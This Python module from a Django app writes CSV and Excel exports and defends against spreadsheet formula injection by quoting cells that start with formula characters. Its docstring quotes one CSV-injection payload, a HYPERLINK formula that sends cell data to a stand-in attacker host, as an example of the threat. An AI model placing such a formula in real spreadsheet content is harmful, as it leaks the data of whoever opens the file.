"""Tabular downloads, CSV and .xlsx, whose every cell is inert: the one writer of every export and chart CSV.

A spreadsheet opening a CSV evaluates a cell that starts with `=`, `+`, `-` or `@` (and, in some programs, after a
leading tab or carriage return) as a formula: a KPI named `=HYPERLINK("http://evil.example/?d="&A1,"Click")`
would become a live link that sends the sheet's data away. `inert()` is the one rule every cell of every
download goes through (OWASP's CSV injection advice): text that starts with one of those characters gets a
leading single quote, which spreadsheets show as text; real numbers stay numbers, negative ones included. In a
workbook, numbers and dates are written as typed cells and text goes through the same rule, so no text cell
is ever stored as a formula.

A list's export (`Export`) reads its rows as plain tuples (`values_list`) in chunks, so a download of 100,000
rows is one query and never holds the rows in memory: the CSV is streamed as it is read, the workbook is
written row by row (openpyxl's write-only mode) to a temporary file that is then streamed.
"""

from __future__ import annotations

import csv
import datetime
import math
import re
import tempfile
from collections.abc import Callable, Iterable, Iterator, Sequence
from dataclasses import dataclass
from decimal import Decimal
from typing import Any

from django.http import FileResponse, Http404, HttpResponse, StreamingHttpResponse
from django.http.response import HttpResponseBase
from django.utils import timezone

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
Cell = str | int | float | Decimal
CHUNK_SIZE = 2000  # rows read per round trip while an export streams
FORMATS = ("csv", "xlsx")
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
# characters a workbook's XML cannot hold (control characters other than tab, newline and carriage return)
XML_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
XLSX_TEXT_LIMIT = 32_767  # characters a spreadsheet cell holds


def inert(value: Any) -> Cell:
    """The cell as a spreadsheet may safely read it.

    Numbers (int, float, Decimal; not bool) are returned as they are, so `-3.5` stays a number. Everything
    else is text: None is empty, dates are ISO 8601, and text starting with a formula trigger gets a leading
    single quote, even when it merely looks like a number (the string "-1+2" was typed, not computed).
    """
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, int | float | Decimal):
        return value
    if isinstance(value, datetime.date):  # datetimes too
        return value.isoformat()
    text = str(value)
    if text.startswith(FORMULA_TRIGGERS):
        return "'" + text
    return text


def inert_row(row: Iterable[Any]) -> list[Cell]:
    return [inert(value) for value in row]


def xlsx_cell(value: Any) -> Cell | datetime.date | None:
    """A value as a workbook cell: numbers and dates typed (a date cell, a datetime in the local time zone),
    empty for None, everything else text through inert() (so never a formula), without the control
    characters a workbook cannot hold and cut at a cell's limit."""
    if value is None:
        return None
    if isinstance(value, datetime.datetime):
        return timezone.localtime(value).replace(tzinfo=None) if timezone.is_aware(value) else value
    if isinstance(value, datetime.date):
        return value
    if (
        isinstance(value, float)
        and not math.isfinite(value)
        or isinstance(value, Decimal)
        and not value.is_finite()
    ):
        return str(value)
    cell = inert(value)
    if isinstance(cell, str):
        return XML_ILLEGAL.sub("", cell)[:XLSX_TEXT_LIMIT]
    return cell


FILENAME_UNSAFE = re.compile(r"[^A-Za-z0-9._-]+")


def safe_filename(name: str, *, default: str = "download") -> str:
    """A file name that is safe in a Content-Disposition header and on any disk: letters, digits, `.`, `-`
    and `_` (any run of other characters becomes one `-`), never starting with a dot, at most 100 characters."""
    cleaned = re.sub(r"-{2,}", "-", FILENAME_UNSAFE.sub("-", name)).strip("-.")[:100].strip("-.")
    return cleaned or default


class _Line:
    """A file-like object that hands back what csv.writer writes: one line at a time."""

    def write(self, text: str) -> str:
        return text


def csv_lines(header: Sequence[Any], rows: Iterable[Iterable[Any]]) -> Iterator[str]:
    """The CSV text of a table, a line at a time, every cell (header included) through inert()."""
    writer = csv.writer(_Line())
    yield writer.writerow(inert_row(header))
    for row in rows:
        yield writer.writerow(inert_row(row))


def _attachment(filename: str, extension: str) -> str:
    return f'attachment; filename="{safe_filename(filename)}.{extension}"'


def csv_response(filename: str, header: Sequence[Any], rows: Iterable[Iterable[Any]]) -> HttpResponse:
    """A small CSV download (a chart's table), in one piece; `filename` without `.csv`."""
    response = HttpResponse("".join(csv_lines(header, rows)), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = _attachment(filename, "csv")
    return response


def csv_stream(filename: str, header: Sequence[Any], rows: Iterable[Iterable[Any]]) -> StreamingHttpResponse:
    """A CSV download streamed as its rows are read; `filename` without `.csv`."""
    response = StreamingHttpResponse(csv_lines(header, rows), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = _attachment(filename, "csv")
    return response


def xlsx_write(target: Any, header: Sequence[Any], rows: Iterable[Iterable[Any]], *, sheet: str) -> None:
    """Write a one-sheet workbook to `target` (a path or a binary file), row by row: openpyxl's write-only
    mode keeps only the row being written in memory. The header is bold and stays in view."""
    xlsx_write_sheets(target, [(sheet, header, rows)])


def xlsx_write_sheets(
    target: Any, tables: Sequence[tuple[str, Sequence[Any], Iterable[Iterable[Any]]]]
) -> None:
    """Write a workbook of several sheets (title, header, rows), each as xlsx_write writes its one."""
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Font

    book = Workbook(write_only=True)
    bold = Font(bold=True)
    for sheet, header, rows in tables:
        worksheet = book.create_sheet(title=_sheet_title(sheet))
        worksheet.freeze_panes = "A2"
        titles = []
        for value in header:
            cell = WriteOnlyCell(worksheet, value=xlsx_cell(value))
            cell.font = bold
            titles.append(cell)
        worksheet.append(titles)
        for row in rows:
            worksheet.append([xlsx_cell(value) for value in row])
    book.save(target)


def _sheet_title(name: str) -> str:
    """A worksheet title a spreadsheet accepts: at most 31 characters, none of []:*?/\\."""
    return re.sub(r"[\[\]:*?/\\]", "-", name)[:31] or "Sheet"


def xlsx_response(
    filename: str, header: Sequence[Any], rows: Iterable[Iterable[Any]], *, sheet: str
) -> FileResponse:
    """An .xlsx download: the workbook written to a temporary file (deleted once sent), then streamed."""
    return xlsx_sheets_response(filename, [(sheet, header, rows)])


def xlsx_sheets_response(
    filename: str, tables: Sequence[tuple[str, Sequence[Any], Iterable[Iterable[Any]]]]
) -> FileResponse:
    """An .xlsx download of several sheets (xlsx_write_sheets), sent as xlsx_response sends one."""
    # closed (and so deleted) by the response once sent
    spool = tempfile.TemporaryFile(prefix="bearing-export-", suffix=".xlsx")  # noqa: SIM115
    try:
        xlsx_write_sheets(spool, tables)
        spool.seek(0)
    except BaseException:
        spool.close()
        raise
    response = FileResponse(spool, content_type=XLSX_CONTENT_TYPE)
    response["Content-Disposition"] = _attachment(filename, "xlsx")
    return response


# --------------------------------------------------------------------------------------- list exports


@dataclass(frozen=True)
class Column:
    """A column of a list's export: its header (the field name an import of that list accepts), the value
    it reads from each row (a `values_list` path), and how that value is shown when it is not as stored."""

    header: str
    source: str
    convert: Callable[[Any], Any] | None = None


@dataclass(frozen=True)
class Export:
    """What one list exports: its rows (a queryset, filtered and ordered as the page shows them), its columns,
    and the name of its file and sheet."""

    name: str
    columns: Sequence[Column]
    rows: Any  # QuerySet; read once, in chunks, as tuples of the columns' sources
    sheet: str = ""

    @property
    def header(self) -> list[str]:
        return [column.header for column in self.columns]

    def values(self) -> Iterator[list[Any]]:
        """Each row as the export's values, read CHUNK_SIZE rows at a time in one query."""
        sources = list(dict.fromkeys(column.source for column in self.columns))
        where = [sources.index(column.source) for column in self.columns]
        converters = [column.convert for column in self.columns]
        for found in self.rows.values_list(*sources).iterator(chunk_size=CHUNK_SIZE):
            yield [
                value if convert is None else convert(value)
                for value, convert in zip((found[i] for i in where), converters, strict=True)
            ]


def export_response(export: Export, fmt: str) -> HttpResponseBase:
    """The list's download in `fmt` (csv or xlsx; anything else is not found)."""
    return table_response(export.name, export.header, export.values(), fmt, sheet=export.sheet or export.name)


def table_response(
    filename: str, header: Sequence[Any], rows: Iterable[Iterable[Any]], fmt: str, *, sheet: str
) -> HttpResponseBase:
    """A table's download in `fmt` (csv or xlsx; anything else is not found), for rows computed rather than
    read by an Export's queryset; every cell through inert()."""
    if fmt == "csv":
        return csv_stream(filename, header, rows)
    if fmt == "xlsx":
        return xlsx_response(filename, header, rows, sheet=sheet)
    raise Http404("Exports are offered as csv or xlsx.")


def filter_errors(form: Any) -> HttpResponse:
    """A refused export: what is wrong with its filters, as plain text (400)."""
    errors = "; ".join(f"{field}: {' '.join(map(str, messages))}" for field, messages in form.errors.items())
    return HttpResponse(f"Invalid filters: {errors}", status=400, content_type="text/plain; charset=utf-8")
